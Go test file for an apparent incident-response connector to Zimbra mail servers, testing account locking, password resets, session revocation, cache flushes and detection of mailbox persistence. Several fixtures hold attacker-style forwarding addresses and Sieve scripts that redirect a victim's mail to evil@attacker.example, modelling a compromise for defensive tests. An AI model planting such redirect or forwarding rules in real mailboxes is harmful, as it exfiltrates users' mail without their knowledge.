package zimbra_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mailbrake/mailbrake/internal/connector/zimbra"
	"github.com/mailbrake/mailbrake/internal/connector/zimbra/zimbratest"
)

const user = "alice@example.edu"

// clock is a settable clock shared by client and server.
type clock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.t }
func (c *clock) Add(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(d)
}

type env struct {
	srv   *zimbratest.Server
	c     *zimbra.Client
	clock *clock
	logs  *syncBuffer
}

type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}
func (s *syncBuffer) String() string { s.mu.Lock(); defer s.mu.Unlock(); return s.b.String() }

func newEnv(t *testing.T, opts zimbratest.Options, edit ...func(*zimbra.Config)) *env {
	t.Helper()
	clk := &clock{t: time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)}
	if opts.Now == nil {
		opts.Now = clk.Now
	}
	srv := zimbratest.Start(t, opts)
	logs := &syncBuffer{}
	cfg := zimbra.Config{
		URL:               srv.URL(),
		AdminUser:         srv.AdminUser(),
		AdminPasswordFile: srv.AdminPasswordFile(t),
		CAFile:            srv.CAFile(),
		Timeout:           10 * time.Second,
		Logger:            slog.New(slog.NewTextHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		Now:               clk.Now,
	}
	for _, e := range edit {
		e(&cfg)
	}
	c, err := zimbra.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return &env{srv: srv, c: c, clock: clk, logs: logs}
}

func wantCalls(t *testing.T, srv *zimbratest.Server, want ...string) {
	t.Helper()
	got := srv.CallStrings()
	if !slices.Equal(got, want) {
		t.Fatalf("calls:\n  %s\nwant:\n  %s", strings.Join(got, "\n  "), strings.Join(want, "\n  "))
	}
}

const authCall = "AuthRequest account=admin@example.test password=(set)"

func TestGetAccount(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	id := e.srv.AddAccount(user, map[string][]string{
		"zimbraAuthTokenValidityValue":    {"7"},
		"zimbraPasswordModifiedTime":      {"20260101120000Z"},
		"zimbraPrefMailForwardingAddress": {"evil@attacker.example, Bob@example.org"},
		"zimbraMailForwardingAddress":     {"bob@example.org", "archive@example.edu"},
		"zimbraMailSieveScript":           {"require [\"fileinto\"];\nredirect \"evil@attacker.example\";\n"},
		"displayName":                     {"Alice"},
	})
	a, err := e.c.GetAccount(context.Background(), user)
	if err != nil {
		t.Fatal(err)
	}
	if a.ID != id || a.Name != user {
		t.Fatalf("account %q %q, want %q %q", a.Name, a.ID, user, id)
	}
	if a.Status() != "active" || a.AuthTokenValidityValue() != 7 {
		t.Fatalf("status %q validity %d", a.Status(), a.AuthTokenValidityValue())
	}
	pm, err := a.PasswordModifiedTime()
	if err != nil || !pm.Equal(time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)) {
		t.Fatalf("PasswordModifiedTime = %v, %v", pm, err)
	}
	fwd := a.ForwardingAddresses()
	if want := []string{"evil@attacker.example", "Bob@example.org", "archive@example.edu"}; !slices.Equal(fwd, want) {
		t.Fatalf("ForwardingAddresses = %q, want %q", fwd, want)
	}
	if !strings.Contains(a.SieveScript(), "redirect") {
		t.Fatalf("SieveScript = %q", a.SieveScript())
	}
	if got := a.Values("zimbraMailForwardingAddress"); len(got) != 2 {
		t.Fatalf("multi-valued attr: %q", got)
	}
	if a.Values("displayName") != nil {
		t.Fatal("displayName returned although not asked for")
	}
	wantCalls(t, e.srv, authCall, "GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","))

	// An explicit attribute list is what the server filters by.
	a, err = e.c.GetAccount(context.Background(), user, "displayName")
	if err != nil {
		t.Fatal(err)
	}
	if len(a.Attrs) != 1 || a.Values("DISPLAYNAME")[0] != "Alice" {
		t.Fatalf("attrs filter: %v", a.Attrs)
	}
}

// TestGetAccountDeniedAttrs: a delegated admin without the right to read
// an attribute gets it listed with pd and no value; the connector keeps it
// apart, so it is never taken for an unset attribute.
func TestGetAccountDeniedAttrs(t *testing.T) {
	e := newEnv(t, zimbratest.Options{DeniedAttrs: []string{"zimbraPrefMailForwardingAddress", "zimbraMailSieveScript"}})
	e.srv.AddAccount(user, map[string][]string{"zimbraPrefMailForwardingAddress": {"evil@attacker.example"}})
	a, err := e.c.GetAccount(context.Background(), user)
	if err != nil {
		t.Fatal(err)
	}
	if !a.Denied("zimbraPrefMailForwardingAddress") || a.Values("zimbraPrefMailForwardingAddress") != nil || len(a.ForwardingAddresses()) != 0 {
		t.Fatalf("denied forwarding: %q %v", a.DeniedAttrs, a.Attrs)
	}
	// ToXML lists only attributes with a value: an unset denied one is absent.
	if a.Denied("zimbraMailSieveScript") {
		t.Fatal("an unset attribute reported as denied")
	}
}

// TestGetAccountUnknownAttrs plays an 8.8.8 server, which has no
// zimbraPrefPasswordRecoveryAddress(Status): GetAccount naming them fails
// with service.INVALID_REQUEST (AdminDocumentHandler.getReqAttrs, lines
// 700–723 at zm-mailbox 2b7f9787c69e). The connector drops each, once,
// and remembers it.
func TestGetAccountUnknownAttrs(t *testing.T) {
	e := newEnv(t, zimbratest.Options{UnknownAttrs: zimbratest.AttrsSince889})
	e.srv.AddAccount(user, map[string][]string{"displayName": {"Alice"}})
	ctx := context.Background()
	addr, status, known, err := e.c.RecoveryAddress(ctx, user)
	if err != nil || known || addr != "" || status != "" {
		t.Fatalf("RecoveryAddress on 8.8.8: %q %q %v %v", addr, status, known, err)
	}
	a, err := e.c.GetAccount(ctx, user, "displayName", zimbra.AttrPrefPasswordRecoveryAddress)
	if err != nil {
		t.Fatal(err)
	}
	if a.Values("displayName")[0] != "Alice" || !a.Unsupported(zimbra.AttrPrefPasswordRecoveryAddress) || a.Unsupported("displayName") {
		t.Fatalf("attrs %v unknown %q", a.Attrs, a.UnknownAttrs)
	}
	if _, err := e.c.GetAccount(ctx, user, zimbra.AttrPrefPasswordRecoveryAddress); err != nil {
		t.Fatal(err)
	}
	const q = "GetAccountRequest account=" + user + " attrs="
	wantCalls(t, e.srv, authCall,
		q+"zimbraId,zimbraPrefPasswordRecoveryAddress,zimbraPrefPasswordRecoveryAddressStatus fault=service.INVALID_REQUEST",
		q+"zimbraId,zimbraPrefPasswordRecoveryAddressStatus fault=service.INVALID_REQUEST",
		q+"zimbraId",
		q+"displayName",
		q+"zimbraId", // never an empty list, which would mean every attribute
	)
}

// TestRecoveryAddress reads what an attacker may have set (both
// attributes are user preferences; status "verified" included).
func TestRecoveryAddress(t *testing.T) {
	for _, tc := range []struct {
		name         string
		opts         zimbratest.Options
		attrs        map[string][]string
		addr, status string
		known        bool
	}{
		{"set by an attacker", zimbratest.Options{}, map[string][]string{zimbra.AttrPrefPasswordRecoveryAddress: {"me@attacker.example"},
			zimbra.AttrPrefPasswordRecoveryAddressStatus: {"verified"}}, "me@attacker.example", "verified", true},
		{"unset", zimbratest.Options{}, nil, "", "", true},
		{"no right", zimbratest.Options{DeniedAttrs: []string{zimbra.AttrPrefPasswordRecoveryAddress}},
			map[string][]string{zimbra.AttrPrefPasswordRecoveryAddress: {"me@attacker.example"}}, "", "", false},
		{"8.8.8", zimbratest.Options{UnknownAttrs: zimbratest.AttrsSince889}, map[string][]string{zimbra.AttrPrefPasswordRecoveryAddress: {"x@y"}}, "", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, tc.opts)
			e.srv.AddAccount(user, tc.attrs)
			addr, status, known, err := e.c.RecoveryAddress(context.Background(), user)
			if err != nil || addr != tc.addr || status != tc.status || known != tc.known {
				t.Fatalf("got %q %q %v %v", addr, status, known, err)
			}
		})
	}
}

// TestPasswordPolicy reads the effective policy (COS values inherited,
// the account's own values winning) and shows that a password
// GeneratePassword makes for it passes the fake's rendering of Zimbra's
// checks when a delegated admin's SetPassword enforces them.
func TestPasswordPolicy(t *testing.T) {
	for _, tc := range []struct {
		name    string
		opts    zimbratest.Options
		wantErr string
	}{
		{name: "10.1", opts: zimbratest.Options{MissingRights: []string{zimbratest.RightSetAccountPassword}}},
		{name: "8.8.15 (no BlockCommon, no AllowUsername)", opts: zimbratest.Options{MissingRights: []string{zimbratest.RightSetAccountPassword},
			UnknownAttrs: []string{zimbra.AttrPasswordBlockCommonEnabled, zimbra.AttrFeatureAllowUsernameInPassword}}},
		{name: "no right to read the policy", opts: zimbratest.Options{DeniedAttrs: []string{zimbra.AttrPasswordMinLength}}, wantErr: "no right to read zimbraPasswordMinLength"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, tc.opts)
			e.srv.SetCOS(map[string][]string{"zimbraPasswordMinLength": {"12"}, "zimbraPasswordMaxLength": {"24"}, "zimbraPasswordMinUpperCaseChars": {"2"},
				"zimbraPasswordMinPunctuationChars": {"2"}, "zimbraPasswordAllowedPunctuationChars": {"[#%]"}, "zimbraPasswordBlockCommonEnabled": {"TRUE"}})
			e.srv.AddAccount(user, map[string][]string{"zimbraPasswordMinNumericChars": {"3"}, "zimbraPasswordMinLength": {"16"}, "zimbraPasswordMinAge": {"1"}})
			ctx := context.Background()
			p, err := e.c.PasswordPolicy(ctx, user)
			if tc.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			want := zimbra.PasswordPolicy{MinLength: 16, MaxLength: 24, MinUpperCase: 2, MinPunctuation: 2, MinNumeric: 3,
				AllowedPunctuationChars: "[#%]", BlockCommon: !strings.HasPrefix(tc.name, "8.8"), MinAgeDays: 1}
			if p != want {
				t.Fatalf("policy\n %+v\nwant\n %+v", p, want)
			}
			pw, err := zimbra.GeneratePassword([]zimbra.PasswordPolicy{p}, 100)
			if err != nil {
				t.Fatal(err)
			}
			if warning, err := e.c.SetPassword(ctx, user, pw); err != nil || warning != "" {
				t.Fatalf("the generated password: %q, %v", warning, err)
			}
		})
	}
}

func TestNoSuchAccount(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	ctx := context.Background()
	for name, op := range map[string]func() error{
		"GetAccount":  func() error { _, err := e.c.GetAccount(ctx, "nobody@example.edu"); return err },
		"Lock":        func() error { return e.c.Lock(ctx, "nobody@example.edu") },
		"EndSessions": func() error { _, err := e.c.EndSessions(ctx, "nobody@example.edu"); return err },
		"SetPassword": func() error { _, err := e.c.SetPassword(ctx, "nobody@example.edu", []byte("x")); return err },
		"Persistence": func() error { _, err := e.c.Persistence(ctx, "nobody@example.edu"); return err },
	} {
		err := op()
		if !errors.Is(err, zimbra.ErrNoSuchAccount) {
			t.Errorf("%s: %v, want ErrNoSuchAccount", name, err)
		}
		var f *zimbra.Fault
		if !errors.As(err, &f) || f.Code != zimbra.CodeNoSuchAccount || !strings.Contains(f.Reason, "nobody@example.edu") || f.Trace == "" {
			t.Errorf("%s: fault %+v", name, f)
		}
		if errors.Is(err, zimbra.ErrAuthFailed) {
			t.Errorf("%s: matches ErrAuthFailed", name)
		}
	}
}

func TestLockUnlock(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	id := e.srv.AddAccount(user, nil)
	ctx := context.Background()
	if err := e.c.Lock(ctx, user); err != nil {
		t.Fatal(err)
	}
	if got := e.srv.Attr(user, "zimbraAccountStatus"); !slices.Equal(got, []string{"locked"}) {
		t.Fatalf("status after Lock: %q", got)
	}
	if err := e.c.Unlock(ctx, user); err != nil {
		t.Fatal(err)
	}
	if got := e.srv.Attr(user, "zimbraAccountStatus"); !slices.Equal(got, []string{"active"}) {
		t.Fatalf("status after Unlock: %q", got)
	}
	wantCalls(t, e.srv, authCall,
		"GetAccountRequest account="+user+" attrs=zimbraId",
		"ModifyAccountRequest account="+id+" zimbraAccountStatus=locked",
		"GetAccountRequest account="+user+" attrs=zimbraId",
		"ModifyAccountRequest account="+id+" zimbraAccountStatus=active",
	)
}

func TestSetMustChangePassword(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	e.srv.AddAccount(user, nil)
	ctx := context.Background()
	for _, must := range []bool{true, false} {
		if err := e.c.SetMustChangePassword(ctx, user, must); err != nil {
			t.Fatal(err)
		}
		a, err := e.c.GetAccount(ctx, user)
		if err != nil {
			t.Fatal(err)
		}
		if a.MustChangePassword() != must {
			t.Fatalf("must=%v: server has %q", must, e.srv.Attr(user, "zimbraPasswordMustChange"))
		}
	}
}

func TestSetPassword(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	id := e.srv.AddAccount(user, map[string][]string{"zimbraAuthTokenValidityValue": {"2"}})
	ctx := context.Background()
	pw := []byte("N3w-scrambled-Passw0rd")
	warning, err := e.c.SetPassword(ctx, user, pw)
	if err != nil || warning != "" {
		t.Fatalf("SetPassword: %q, %v", warning, err)
	}
	if !e.srv.CheckPassword(user, string(pw)) {
		t.Fatal("password not set")
	}
	a, err := e.c.GetAccount(ctx, user)
	if err != nil {
		t.Fatal(err)
	}
	if a.AuthTokenValidityValue() != 3 {
		t.Fatalf("validity value %d, want 3 (SetPassword raises it)", a.AuthTokenValidityValue())
	}
	if pm, _ := a.PasswordModifiedTime(); !pm.Equal(e.clock.Now()) {
		t.Fatalf("PasswordModifiedTime %v, want %v", pm, e.clock.Now())
	}
	if _, err := e.c.SetPassword(ctx, user, nil); err == nil {
		t.Fatal("empty password accepted")
	}
	wantCalls(t, e.srv, authCall,
		"GetAccountRequest account="+user+" attrs=zimbraId",
		"SetPasswordRequest account="+id+" password=(set)",
		"GetAccountRequest account="+user+" attrs="+strings.Join(zimbra.DefaultAttrs, ","),
	)
}

// TestSetPasswordPolicy runs SetPassword against the fake's model of
// LdapProvisioning.setPassword (zm-mailbox 2b7f9787c69e, lines 6010–6034
// and 6271–6320) and SetPassword.checkAccountRights (SetPassword.java
// lines 120–141): a global admin's set always succeeds and carries the
// dry run's violation as a warning; a delegated admin without
// setAccountPassword is refused with ErrPasswordRejected.
func TestSetPasswordPolicy(t *testing.T) {
	const hourAgo = "20260301083000Z" // the test clock is 2026-03-01 09:30
	delegated := []string{zimbratest.RightSetAccountPassword}
	for _, tc := range []struct {
		name     string
		missing  []string
		cos      map[string][]string
		attrs    map[string][]string
		before   []string // passwords set first (by a global admin's rules)
		pw       string
		warning  string // substring of the warning; "" for none
		code     string // fault code when refused
		arg      string // "name=value" of the fault's argument
		validity string // zimbraAuthTokenValidityValue afterwards
	}{
		{name: "unset validity becomes 0, must-change cleared", attrs: map[string][]string{"zimbraPasswordMustChange": {"TRUE"}},
			pw: "Good-Passw0rd", validity: "0"},
		{name: "global admin: violation is a warning", cos: map[string][]string{"zimbraPasswordMinLength": {"8"}},
			pw: "Tiny1", warning: "Password violation: account=" + user + ", violation=invalid password: too short.  Password is set successfully.", validity: "0"},
		{name: "global admin: history is a warning", attrs: map[string][]string{"zimbraPasswordEnforceHistory": {"3"}},
			before: []string{"Old-Passw0rd-1"}, pw: "Old-Passw0rd-1", warning: "password was recently used", validity: "1"},
		{name: "delegated: too short", missing: delegated, cos: map[string][]string{"zimbraPasswordMinLength": {"8"}},
			pw: "Tiny1", code: zimbra.CodeInvalidPassword, arg: "zimbraPasswordMinLength=8"},
		{name: "delegated: account value wins over COS", missing: delegated, cos: map[string][]string{"zimbraPasswordMinLength": {"6"}},
			attrs: map[string][]string{"zimbraPasswordMinLength": {"20"}}, pw: "Twelve-chars", code: zimbra.CodeInvalidPassword, arg: "zimbraPasswordMinLength=20"},
		{name: "delegated: classes in Zimbra's order", missing: delegated, cos: map[string][]string{"zimbraPasswordMinUpperCaseChars": {"1"}, "zimbraPasswordMinNumericChars": {"2"}},
			pw: "lower-only-1", code: zimbra.CodeInvalidPassword, arg: "zimbraPasswordMinUpperCaseChars=1"},
		{name: "delegated: history", missing: delegated, attrs: map[string][]string{"zimbraPasswordEnforceHistory": {"2"}},
			before: []string{"First-Passw0rd"}, pw: "First-Passw0rd", code: zimbra.CodePasswordRecentlyUsed, validity: "0"},
		{name: "delegated: minimum age", missing: delegated,
			attrs: map[string][]string{"zimbraPasswordMinAge": {"1"}, "zimbraPasswordModifiedTime": {hourAgo}}, pw: "Fresh-Passw0rd", code: zimbra.CodePasswordChangeTooSoon},
		{name: "delegated: minimum age skipped when a change is due", missing: delegated,
			attrs: map[string][]string{"zimbraPasswordMinAge": {"1"}, "zimbraPasswordModifiedTime": {hourAgo}, "zimbraPasswordMustChange": {"TRUE"}}, pw: "Fresh-Passw0rd", validity: "0"},
		{name: "delegated: a compliant password is set", missing: delegated, cos: map[string][]string{"zimbraPasswordMinLength": {"8"}, "zimbraPasswordMinPunctuationChars": {"1"}},
			pw: "Compliant-1", validity: "0"},
		{name: "delegated: the refused character is not echoed", missing: delegated, cos: map[string][]string{"zimbraPasswordAllowedChars": {"[a-z]"}},
			pw: "abcQxyz", code: zimbra.CodeInvalidPassword, arg: "zimbraPasswordAllowedChars=[a-z]"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, zimbratest.Options{MissingRights: tc.missing})
			e.srv.SetCOS(tc.cos)
			e.srv.AddAccount(user, tc.attrs)
			ctx := context.Background()
			for _, pw := range tc.before {
				if !e.srv.SetPassword(user, pw) {
					t.Fatal("no account")
				}
			}
			before := e.srv.Attr(user, "zimbraAuthTokenValidityValue")
			warning, err := e.c.SetPassword(ctx, user, []byte(tc.pw))
			if tc.code != "" {
				var f *zimbra.Fault
				if !errors.Is(err, zimbra.ErrPasswordRejected) || !errors.As(err, &f) || f.Code != tc.code {
					t.Fatalf("err = %v, want ErrPasswordRejected with %s", err, tc.code)
				}
				if tc.arg != "" {
					n, v, _ := strings.Cut(tc.arg, "=")
					if got, ok := f.Arg(n); !ok || got != v {
						t.Fatalf("fault args %+v, want %s", f.Args, tc.arg)
					}
				}
				if strings.Contains(err.Error(), tc.pw) || strings.Contains(err.Error(), "Q is not") {
					t.Fatalf("error echoes the password: %v", err)
				}
				if e.srv.CheckPassword(user, tc.pw) && len(tc.before) == 0 {
					t.Fatal("a refused password was set")
				}
				if got := e.srv.Attr(user, "zimbraAuthTokenValidityValue"); !slices.Equal(got, before) {
					t.Fatalf("a refused set changed the validity value: %q → %q", before, got)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if tc.warning == "" && warning != "" || !strings.Contains(warning, tc.warning) {
				t.Fatalf("warning %q, want %q", warning, tc.warning)
			}
			if !e.srv.CheckPassword(user, tc.pw) {
				t.Fatal("password not set")
			}
			if got := e.srv.Attr(user, "zimbraAuthTokenValidityValue"); !slices.Equal(got, []string{tc.validity}) {
				t.Fatalf("validity value %q, want %s", got, tc.validity)
			}
			if got := e.srv.Attr(user, "zimbraPasswordMustChange"); got != nil {
				t.Fatalf("zimbraPasswordMustChange %q after SetPassword", got)
			}
		})
	}
}

func TestEndSessions(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	id := e.srv.AddAccount(user, map[string][]string{"zimbraAuthTokenValidityValue": {"4"}})
	unset := e.srv.AddAccount("bob@example.edu", nil)
	ctx := context.Background()
	r, err := e.c.EndSessions(ctx, user)
	if err != nil {
		t.Fatal(err)
	}
	if r.OldValidity != 4 || r.NewValidity != 5 || !r.TokensRevoked() || r.IMAPEnds() {
		t.Fatalf("report %+v", r)
	}
	r, err = e.c.EndSessions(ctx, "bob@example.edu")
	if err != nil {
		t.Fatal(err)
	}
	// Unset counts as -1 (ZAttrAccount.getAuthTokenValidityValue).
	if r.OldValidity != -1 || r.NewValidity != 0 || !strings.HasPrefix(r.String(), "web and SOAP tokens revoked (validity unset→0)") {
		t.Fatalf("report %+v %s", r, r)
	}
	if got := e.srv.Attr(user, "zimbraAuthTokenValidityValue"); !slices.Equal(got, []string{"5"}) {
		t.Fatalf("validity value %q, want 5", got)
	}
	wantCalls(t, e.srv, authCall,
		"GetAccountRequest account="+user+" attrs=zimbraId,zimbraAuthTokenValidityValue,zimbraAccountStatus",
		"GetConfigRequest a=zimbraAuthTokenValidityValueEnabled",
		"ModifyAccountRequest account="+id+" zimbraAuthTokenValidityValue=5",
		"GetAllServersRequest service=mailbox",
		"FlushCacheRequest account="+id+" type=account allServers=0 entry=id:"+id,
		"GetAccountRequest account=bob@example.edu attrs=zimbraId,zimbraAuthTokenValidityValue,zimbraAccountStatus",
		"GetConfigRequest a=zimbraAuthTokenValidityValueEnabled",
		"ModifyAccountRequest account="+unset+" zimbraAuthTokenValidityValue=0",
		"GetAllServersRequest service=mailbox",
		"FlushCacheRequest account="+unset+" type=account allServers=0 entry=id:"+unset,
	)
}

// TestEndSessionsWhatEnds runs EndSessions against the fake's model of
// sessions (zm-mailbox 2b7f9787c69e): tokens carry the validity value
// (AuthTokenProperties lines 70–73) and fail once it differs, unless
// zimbraAuthTokenValidityValueEnabled is FALSE (Account.java 327–406);
// IMAP/POP sessions look only at the account status, at each command
// (ImapHandler 438–456); a server acts on its cached account until
// flushed. The report must say exactly that.
func TestEndSessionsWhatEnds(t *testing.T) {
	const mbox2 = "mbox2.example.test"
	for _, tc := range []struct {
		name        string
		opts        zimbratest.Options
		lock        bool
		setup       func(*zimbratest.Server)
		report      string // the report's words, with ZID for the id
		tokenAlive  map[string]bool
		imapAlive   bool
		staleServer string // a server that still takes the old token, until its cache expires
	}{
		{name: "active account: tokens revoked, IMAP goes on",
			report: "web and SOAP tokens revoked (validity 4→5); account active: open IMAP/POP sessions are NOT ended (Zimbra checks only the account status, " +
				"at each command; lock the account to end them); caches flushed by id on mbox1.example.test (ok), mbox2.example.test (ok)",
			tokenAlive: map[string]bool{}, imapAlive: true},
		{name: "locked account: IMAP ends at the next command", lock: true,
			report:     "web and SOAP tokens revoked (validity 4→5); account locked: IMAP/POP sessions end at their next command; caches flushed by id on mbox1.example.test (ok), mbox2.example.test (ok)",
			tokenAlive: map[string]bool{}, imapAlive: false},
		{name: "validity check off", lock: true, setup: func(s *zimbratest.Server) { s.SetGlobalConfig("zimbraAuthTokenValidityValueEnabled", "FALSE") },
			report: "WARNING: zimbraAuthTokenValidityValueEnabled is FALSE, so raising zimbraAuthTokenValidityValue (4→5) revoked no web or SOAP token; " +
				"account locked: IMAP/POP sessions end at their next command",
			// Locked, so refused all the same (AuthProvider lines 957–966).
			tokenAlive: map[string]bool{}, imapAlive: false},
		{name: "validity check off, account active", setup: func(s *zimbratest.Server) { s.SetGlobalConfig("zimbraAuthTokenValidityValueEnabled", "FALSE") },
			report:     "WARNING: zimbraAuthTokenValidityValueEnabled is FALSE",
			tokenAlive: map[string]bool{"mbox1.example.test": true, mbox2: true}, imapAlive: true},
		{name: "no right to read the check", opts: zimbratest.Options{DeniedAttrs: []string{"zimbraAuthTokenValidityValueEnabled"}},
			report: "zimbraAuthTokenValidityValue raised (4→5), but whether that revoked the web and SOAP tokens is unknown: zimbraAuthTokenValidityValueEnabled " +
				"could not be read (no right to read it)",
			tokenAlive: map[string]bool{}, imapAlive: true},
		{name: "a peer's flush fails", lock: true, setup: func(s *zimbratest.Server) {
			s.Peer(mbox2).FailNext("FlushCacheRequest", "service.FAILURE", "system failure: boom")
		},
			report: "caches flushed by id on mbox1.example.test (ok), mbox2.example.test (failed: zimbra fault service.FAILURE: system failure: boom); " +
				"a server whose cache was not flushed acts on its copy of the account (old tokens, old status) for up to 15 minutes",
			tokenAlive: map[string]bool{mbox2: true}, imapAlive: false, staleServer: mbox2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			opts := tc.opts
			opts.Peers = []string{mbox2}
			e := newEnv(t, opts)
			e.srv.AddAccount(user, map[string][]string{"zimbraAuthTokenValidityValue": {"4"}})
			tok, _ := e.srv.IssueUserToken(user)
			sessions := map[*zimbratest.Server]int{}
			for _, srv := range e.srv.Servers() {
				if !srv.UserTokenValid(tok) {
					t.Fatalf("%s refuses a fresh token", srv.Name())
				}
				sessions[srv], _ = srv.OpenIMAPSession(user) // caches the account on the peer
			}
			ctx := context.Background()
			if tc.lock {
				if err := e.c.Lock(ctx, user); err != nil {
					t.Fatal(err)
				}
			}
			if tc.setup != nil {
				tc.setup(e.srv)
			}
			r, err := e.c.EndSessions(ctx, user)
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(r.String(), tc.report) {
				t.Fatalf("report:\n %s\nwant it to contain:\n %s", r, tc.report)
			}
			for _, srv := range e.srv.Servers() {
				if got := srv.UserTokenValid(tok); got != tc.tokenAlive[srv.Name()] {
					t.Errorf("%s takes the old token: %v, want %v", srv.Name(), got, tc.tokenAlive[srv.Name()])
				}
				alive := tc.imapAlive
				if srv.Name() == tc.staleServer {
					alive = true // its cache still says active
				}
				if got := srv.IMAPSessionAlive(sessions[srv]); got != alive {
					t.Errorf("IMAP session on %s alive: %v, want %v", srv.Name(), got, alive)
				}
			}
			if tc.staleServer != "" {
				e.clock.Add(15 * time.Minute)
				if srv := e.srv.Peer(tc.staleServer); srv.UserTokenValid(tok) || srv.IMAPSessionAlive(sessions[srv]) {
					t.Errorf("%s still takes the old token or keeps the session after its cache expired", tc.staleServer)
				}
			}
		})
	}
}

// TestFlushAccountCache flushes the account by id on each mailbox server
// and reports each server's outcome, which FlushCache allServers=1 cannot
// (FlushCache.flushCacheOnAllServers only logs a peer's failure, lines
// 227–252 at zm-mailbox 2b7f9787c69e). Each peer acts on its cached copy
// of the account until then (a lock is not seen for up to 15 minutes).
func TestFlushAccountCache(t *testing.T) {
	peers := []string{"mbox2.example.test", "mbox3.example.test"}
	for _, tc := range []struct {
		name    string
		opts    zimbratest.Options
		setup   func(*zimbratest.Server)
		want    []string // substrings of the report
		failed  []string
		all     bool     // fell back to allServers=1
		flushed []string // peers that see the lock afterwards
		stale   []string // peers that do not
	}{
		{name: "every server", want: []string{"caches flushed by id on mbox1.example.test (ok), mbox2.example.test (ok), mbox3.example.test (ok)"},
			flushed: peers},
		{name: "one server down", setup: func(s *zimbratest.Server) { s.Peer("mbox3.example.test").Stop() },
			want: []string{"mbox2.example.test (ok), mbox3.example.test (failed: ", "connection refused"}, failed: []string{"mbox3.example.test"},
			flushed: peers[:1]},
		{name: "one server faults", setup: func(s *zimbratest.Server) {
			s.Peer("mbox2.example.test").FailNext("FlushCacheRequest", "service.FAILURE", "system failure: boom")
		}, want: []string{"mbox2.example.test (failed: zimbra fault service.FAILURE: system failure: boom)"}, failed: []string{"mbox2.example.test"},
			flushed: peers[1:], stale: peers[:1]},
		{name: "server list fails: allServers=1", setup: func(s *zimbratest.Server) {
			s.FailNext("GetAllServersRequest", "service.FAILURE", "system failure: unable to list all servers")
		}, want: []string{"could not be listed", "cache flushed with allServers=1 instead (Zimbra does not report failures on the other servers)"},
			all: true, flushed: peers},
		{name: "no listServer right: allServers=1", opts: zimbratest.Options{MissingRights: []string{zimbratest.RightListServer}},
			want: []string{"listed none", "allServers=1 instead"}, all: true, flushed: peers},
		{name: "allServers=1 hides a dead peer", setup: func(s *zimbratest.Server) {
			s.FailNext("GetAllServersRequest", "service.FAILURE", "system failure")
			s.Peer("mbox3.example.test").Stop()
		}, want: []string{"allServers=1 instead"}, all: true, flushed: peers[:1]},
	} {
		t.Run(tc.name, func(t *testing.T) {
			opts := tc.opts
			opts.Peers = peers
			e := newEnv(t, opts)
			e.srv.AddAccount(user, nil)
			for _, p := range peers {
				if st, _, _ := e.srv.Peer(p).SeenAccount(user); st != "active" { // cached now
					t.Fatal(st)
				}
			}
			ctx := context.Background()
			if err := e.c.Lock(ctx, user); err != nil {
				t.Fatal(err)
			}
			if st, _, _ := e.srv.Peer(peers[0]).SeenAccount(user); st != "active" {
				t.Fatalf("a peer saw the lock before any flush: %s", st)
			}
			if tc.setup != nil {
				tc.setup(e.srv)
			}
			r, err := e.c.FlushAccountCache(ctx, user)
			if err != nil {
				t.Fatal(err)
			}
			for _, w := range tc.want {
				if !strings.Contains(r.String(), w) {
					t.Errorf("report %q lacks %q", r, w)
				}
			}
			if !slices.Equal(r.Failed(), tc.failed) || r.AllServers != tc.all {
				t.Errorf("failed %q allServers %v", r.Failed(), r.AllServers)
			}
			for _, p := range tc.flushed {
				if st, _, _ := e.srv.Peer(p).SeenAccount(user); st != "locked" {
					t.Errorf("%s still sees %s", p, st)
				}
			}
			for _, p := range tc.stale {
				if st, _, _ := e.srv.Peer(p).SeenAccount(user); st != "active" {
					t.Errorf("%s sees %s", p, st)
				}
			}
			if len(tc.stale) > 0 {
				// Its copy expires after ldap_cache_account_maxage.
				e.clock.Add(15 * time.Minute)
				if st, _, _ := e.srv.Peer(tc.stale[0]).SeenAccount(user); st != "locked" {
					t.Errorf("after 15 minutes %s still sees %s", tc.stale[0], st)
				}
			}
		})
	}
}

func TestPersistence(t *testing.T) {
	e := newEnv(t, zimbratest.Options{})
	script := "require [\"copy\"];\nredirect :copy \"evil@attacker.example\";\n"
	id := e.srv.AddAccount(user, map[string][]string{
		"zimbraPrefMailForwardingAddress":     {"evil@attacker.example"},
		"zimbraPrefMailLocalDeliveryDisabled": {"TRUE"},
		"zimbraMailSieveScript":               {script},
		"zimbraPrefReplyToEnabled":            {"TRUE"},
		"zimbraPrefReplyToAddress":            {"alice.help@attacker.example"},
		"zimbraPrefFromAddress":               {user},
		"zimbraPasswordModifiedTime":          {"20251224080000Z"},
	})
	idID, _ := e.srv.AddIdentity(user, "Support", map[string][]string{
		"zimbraPrefFromAddress":         {user},
